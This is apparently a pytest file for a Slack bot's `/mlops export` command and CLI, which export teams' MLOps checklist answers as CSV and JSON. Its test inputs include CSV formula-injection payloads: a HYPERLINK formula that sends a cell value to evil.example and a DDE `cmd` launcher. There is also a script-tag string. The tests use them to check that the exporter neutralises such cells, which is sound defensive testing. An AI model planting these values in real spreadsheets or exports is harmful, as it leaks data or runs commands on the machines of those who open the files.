"""`/mlops export` and `mlops-bot export`: what a platform lead takes to a spreadsheet.

Why through the front door: the promise is about the file a person receives, so the tests
type the command, read the bytes the Slack stand-in received through files upload v2, and
parse them back as a spreadsheet would. The CLI is run as a real process against the same
database, so "writes the same" is checked on the real output.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest
from sqlalchemy import select

from bot.domain import DEFAULT_CHECKLIST
from bot.models import AnswerRecord, Assessment, AssessmentStatus, LevelChange, Team
from bot.services.export import CSV_COLUMNS, FORMULA_TRIGGERS, neutralise
from handlers.ids import Callback
from tests.conftest import TEAM_ID
from tests.driver import LABELS, Person, buttons, capability_of, run_assessment, text_of

L1 = {c.id: "yes" for c in DEFAULT_CHECKLIST.capabilities if c.level == 1}
TITLES = {c.id: c.title for c in DEFAULT_CHECKLIST.capabilities}

# One per question: formulas in every spelling spreadsheets run, quotes, separators, line
# breaks, every script, and Slack markup that must come out as typed.
HOSTILE_NOTES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+1 we do this",
    "-2+3 (done)",
    "@SUM(A1:A9)",
    "'already quoted",
    'line one\nline two, with "quotes", commas; and semicolons',
    "数据平台 🚀 Équipe «ü» \u200bzero-width",
    "<script>alert(1)</script> & <@U123> *bold*",
    "=cmd|' /C calc'!A0\r\nsecond line",
]
HOSTILE_TEAMS = ['=SUM(1+1) "Fraud", ML', "Équipe Données 数据 🚀"]


# --- helpers -------------------------------------------------------------------------


def answer_with_note(person: Person, question: dict, label: str, note: str) -> dict:
    """Click "Add note", fill in the modal as a person would, submit; return the next step."""
    bot = person.bot
    opened_before = len(bot.slack.calls_to("views.open"))
    person.click(question, "Add note", reply=False)
    view = bot.slack.wait_for("views.open", count=opened_before + 1)[-1].args["view"]
    value = {v: k for k, v in LABELS.items()}[label]
    replies_before = len(bot.slack.calls_to("response_url"))
    response = bot.client.view_submission(
        Callback.NOTE_MODAL,
        {
            "note_answer": {
                "note_answer": {"type": "radio_buttons", "selected_option": {"value": value}}
            },
            "note_text": {"note_text": {"type": "plain_text_input", "value": note}},
        },
        private_metadata=view["private_metadata"],
        user_id=person.user_id,
    )
    assert response.status == 200, response.body
    calls = bot.slack.wait_for("response_url", count=replies_before + 1)
    return dict(calls[replies_before].args)


def assess_with_notes(person: Person, team: str, notes: list[str]) -> dict:
    """Answer every question "Partly", each with the next note from `notes`."""
    message = person.command(f"assess {team}")
    for note in notes:
        assert "Yes" in buttons(message), text_of(message)
        message = answer_with_note(person, message, "Partly", note)
    assert "Yes" not in buttons(message), "the assessment should be finished"
    return message


def export_via_slack(person: Person, text: str = "export") -> tuple[dict, list[list[str]], dict]:
    """Type `/mlops export ...`; return the reply, the CSV rows received, and the file record."""
    bot = person.bot
    uploads_before = len(bot.slack.calls_to("files.completeUploadExternal"))
    reply = person.command(text)
    (complete,) = bot.slack.wait_for("files.completeUploadExternal", count=uploads_before + 1)[
        uploads_before:
    ]
    (entry,) = json.loads(complete.args["files"])
    record = bot.slack.files[entry["id"]]
    assert complete.args["channel_id"] == bot.slack.dm_channel_id(person.user_id)
    return reply, parse_csv(record["content"]), {**record, **complete.args}


def parse_csv(content: bytes) -> list[list[str]]:
    """As a spreadsheet reads it: UTF-8 with a byte order mark, RFC 4180 quoting."""
    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def restore(cell: str) -> str:
    """What was typed: the documented rule is "drop one leading apostrophe"."""
    return cell[1:] if cell.startswith("'") else cell


def as_dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *body = rows
    assert header == CSV_COLUMNS
    return [dict(zip(header, map(restore, row), strict=True)) for row in body]


def assert_spreadsheet_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --- Slack ---------------------------------------------------------------------------


def test_export_sends_every_answer_and_level_change_to_the_asker(bot):
    person = Person(bot)
    run_assessment(person, "Vision", {"data_versioning": "yes"})
    run_assessment(person, "Fraud ML", L1)
    second = run_assessment(person, "Fraud ML", {**L1, "feature_store": "no"})  # down to L0
    assert "L0" in text_of(second)
    person.command("assess Fraud ML")  # a run in progress: its draft answer is exported too
    draft = person.answer(person.command("assess Fraud ML"), "No")
    assert "question 2 of 9" in text_of(draft)

    reply, rows, upload = export_via_slack(person)

    assert "I sent you the export of every team (2)" in text_of(reply)
    assert "28 answers and 3 level changes" in text_of(reply)
    assert reply["response_type"] == "ephemeral"
    assert upload["name"].startswith("mlops-maturity-t0test-") and upload["name"].endswith(".csv")
    assert "28 answers, 3 level changes" in upload["initial_comment"]
    assert_spreadsheet_safe(rows)
    records = as_dicts(rows)
    answers = [r for r in records if r["kind"] == "answer"]
    changes = [r for r in records if r["kind"] == "level_change"]
    assert [r["team"] for r in answers] == ["Fraud ML"] * 19 + ["Vision"] * 9
    with bot.session() as session:
        in_progress = session.scalar(
            select(Assessment.id).where(Assessment.status == AssessmentStatus.IN_PROGRESS)
        )
        assert len(session.scalars(select(AnswerRecord)).all()) == 28
    first_run = answers[:9]
    assert [r["capability_id"] for r in first_run] == list(DEFAULT_CHECKLIST.ids)
    assert [r["capability_title"] for r in first_run] == [TITLES[c] for c in DEFAULT_CHECKLIST.ids]
    assert {r["answer"] for r in first_run[:5]} == {"yes"}
    assert {r["assessment_status"] for r in answers[:18]} == {"completed"}
    assert answers[18]["assessment_status"] == "in_progress"
    assert answers[18]["assessment_id"] == str(in_progress)
    assert answers[18]["answer"] == "no" and answers[18]["who"] == "U1"
    assert all(r["when"].endswith("+00:00") for r in records)
    assert [(r["team"], r["from_level"], r["to_level"]) for r in changes] == [
        ("Fraud ML", "", "L1"),
        ("Fraud ML", "L1", "L0"),
        ("Vision", "", "L0"),
    ]
    assert all(r["capability_id"] == r["answer"] == "" for r in changes)


def test_export_of_one_team_holds_only_that_team(bot):
    person = Person(bot)
    run_assessment(person, "Vision", {"data_versioning": "yes"})
    run_assessment(person, "Fraud ML", L1)
    reply, rows, upload = export_via_slack(person, "export fraud ml")  # any case
    assert "I sent you the export of *Fraud ML*" in text_of(reply)
    assert "9 answers and 1 level change," in text_of(reply)
    assert {r["team"] for r in as_dicts(rows)} == {"Fraud ML"}
    assert upload["name"].startswith("mlops-maturity-fraud-ml-")


def test_hostile_names_and_notes_are_neutralised_and_round_trip(bot):
    person = Person(bot)
    for team in HOSTILE_TEAMS:
        assess_with_notes(person, team, HOSTILE_NOTES)
    reply, rows, _ = export_via_slack(person)
    assert "18 answers and 2 level changes" in text_of(reply)
    assert_spreadsheet_safe(rows)
    # The formula-looking cells are there, each behind exactly one apostrophe.
    raw_notes = [row[CSV_COLUMNS.index("note")] for row in rows[1:19]]
    assert raw_notes[:5] == ["'" + note for note in HOSTILE_NOTES[:5]]
    assert raw_notes[8] == "'" + HOSTILE_NOTES[8]
    assert raw_notes[5:8] == HOSTILE_NOTES[5:8]  # harmless text is left exactly as typed
    raw_teams = {row[CSV_COLUMNS.index("team")] for row in rows[1:]}
    assert raw_teams == {"'" + HOSTILE_TEAMS[0], HOSTILE_TEAMS[1]}
    records = as_dicts(rows)
    by_team = {team: [r for r in records if r["team"] == team] for team in HOSTILE_TEAMS}
    for team in HOSTILE_TEAMS:
        answers = [r for r in by_team[team] if r["kind"] == "answer"]
        assert [r["note"] for r in answers] == HOSTILE_NOTES
        assert {r["answer"] for r in answers} == {"partly"}
    with bot.session() as session:
        stored = [r.note for r in session.scalars(select(AnswerRecord).order_by(AnswerRecord.id))]
    assert sorted(r["note"] for r in records if r["kind"] == "answer") == sorted(stored)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'quoted", "''quoted"),
        ("plain = text", "plain = text"),
        ("", ""),
        ("L1", "L1"),
    ],
)
def test_neutralise_is_reversible_by_dropping_one_apostrophe(cell, written):
    assert neutralise(cell) == written
    assert restore(neutralise(cell)) == cell
    assert "'" in FORMULA_TRIGGERS


def test_empty_workspace_gets_a_friendly_message_and_no_file(bot):
    reply = Person(bot).command("export")
    assert "There is nothing to export yet" in reply["text"]
    assert "`/mlops assess Fraud ML`" in reply["text"]
    assert bot.slack.calls_to("files.getUploadURLExternal") == []
    assert bot.slack.files == {}


def test_team_without_answers_gets_a_friendly_message_and_no_file(bot):
    person = Person(bot)
    person.command("assess Fraud ML")  # created, nothing answered yet
    reply = person.command("export Fraud ML")
    assert "*Fraud ML* has no answers yet" in reply["text"]
    assert bot.slack.calls_to("files.getUploadURLExternal") == []


def test_unknown_team_is_named_with_a_suggestion_and_nothing_is_sent(bot):
    person = Person(bot)
    run_assessment(person, "Fraud ML", L1)
    reply = person.command("export Fraud MK")
    assert "I don't know a team called *Fraud MK*" in reply["text"]
    assert "Did you mean *Fraud ML*?" in reply["text"]
    assert bot.slack.calls_to("files.getUploadURLExternal") == []
    with bot.session() as session:
        assert len(session.scalars(select(Team)).all()) == 1  # export never creates a team


def test_slack_refusing_the_upload_is_explained(bot):
    person = Person(bot)
    run_assessment(person, "Fraud ML", L1)
    bot.slack.fail("files.getUploadURLExternal", "missing_scope")
    reply = person.command("export")
    assert "I could not send you the file (Slack said `missing_scope`)" in reply["text"]
    assert "`files:write`" in reply["text"]


def test_help_lists_export(bot):
    assert "/mlops export [team]" in text_of(Person(bot).command("help"))


# --- command line ----------------------------------------------------------------------


def mlops_bot(*args: str, database_url: str, cwd) -> subprocess.CompletedProcess:
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith("SLACK_") and k not in ("DATABASE_URL", "PORT")
    }
    env["DATABASE_URL"] = database_url
    return subprocess.run(
        [sys.executable, "-m", "bot.cli", "export", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        timeout=60,
    )


@pytest.fixture
def exported(bot):
    """Two teams with hostile notes, exported once through Slack for comparison."""
    person = Person(bot)
    assess_with_notes(person, HOSTILE_TEAMS[0], HOSTILE_NOTES)
    run_assessment(person, "Vision", L1)
    _, rows, _ = export_via_slack(person)
    return rows


@pytest.mark.slow
def test_cli_csv_writes_the_same_rows_as_slack(bot, exported, database_url, tmp_path):
    result = mlops_bot(
        "--workspace", TEAM_ID, "--format", "csv", database_url=database_url, cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    assert not result.stdout.startswith(b"\xef\xbb\xbf")  # a pipe gets plain UTF-8
    rows = list(csv.reader(io.StringIO(result.stdout.decode("utf-8"), newline="")))
    assert rows == exported
    out = tmp_path / "export.csv"
    result = mlops_bot(
        "--workspace", TEAM_ID, "--output", str(out), database_url=database_url, cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    assert parse_csv(out.read_bytes()) == exported
    assert f"wrote 18 answers and 2 level changes to {out}" in result.stderr.decode()


@pytest.mark.slow
def test_cli_json_holds_the_same_data(bot, exported, database_url, tmp_path):
    result = mlops_bot(
        "--workspace",
        TEAM_ID,
        "--format",
        "json",
        "--team",
        "VISION",
        database_url=database_url,
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    document = json.loads(result.stdout.decode("utf-8"))
    assert document["workspace_id"] == TEAM_ID and document["team"] == "Vision"
    assert [a["capability_id"] for a in document["answers"]] == list(DEFAULT_CHECKLIST.ids)
    assert [(c["from_level"], c["to_level"]) for c in document["level_changes"]] == [(None, 1)]
    result = mlops_bot(
        "--workspace", TEAM_ID, "--format", "json", database_url=database_url, cwd=tmp_path
    )
    document = json.loads(result.stdout.decode("utf-8"))
    csv_answers = [r for r in as_dicts(exported) if r["kind"] == "answer"]
    assert [a["note"] or "" for a in document["answers"]] == [r["note"] for r in csv_answers]
    assert [a["note"] for a in document["answers"][:9]] == HOSTILE_NOTES  # no neutralising
    assert [a["team"] for a in document["answers"]] == [r["team"] for r in csv_answers]
    assert [a["answered_at"] for a in document["answers"]] == [r["when"] for r in csv_answers]
    with bot.session() as session:
        changes = session.scalars(select(LevelChange).order_by(LevelChange.id)).all()
    assert [c["to_level"] for c in document["level_changes"]] == [c.to_level for c in changes]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--workspace", "TNOPE"], "no workspace TNOPE in the database"),
        (["--workspace", TEAM_ID, "--team", "Nobody"], "has no team called 'Nobody'"),
        (["--workspace", TEAM_ID, "--format", "xml"], "invalid choice: 'xml'"),
        (
            ["--workspace", TEAM_ID, "--output", "no/such/dir/x.csv"],
            "could not write no/such/dir/x.csv: No such file or directory",
        ),
    ],
)
def test_cli_refuses_clearly(bot, exported, database_url, tmp_path, args, says):
    result = mlops_bot(*args, database_url=database_url, cwd=tmp_path)
    assert result.returncode != 0
    assert says in result.stderr.decode()
    assert result.stdout == b""
    assert "Traceback" not in result.stderr.decode()


@pytest.mark.slow
def test_cli_needs_no_slack_credentials_and_says_when_there_is_nothing(bot, database_url, tmp_path):
    Person(bot).command("assess Empty")  # the workspace exists, nothing answered
    result = mlops_bot("--workspace", TEAM_ID, database_url=database_url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.decode().splitlines() == [",".join(CSV_COLUMNS)]
    assert "nothing to export yet" in result.stderr.decode()


def test_note_helper_answers_the_question_shown(bot):
    """Guard for the helpers above: the note lands on the capability the question shows."""
    person = Person(bot)
    question = person.command("assess Guard")
    first = capability_of(question)
    answer_with_note(person, question, "Yes", "evidence: https://example.com/run/1")
    with bot.session() as session:
        record = session.scalar(select(AnswerRecord))
    assert (record.capability_id, record.value, record.note) == (
        first,
        "yes",
        "evidence: https://example.com/run/1",
    )
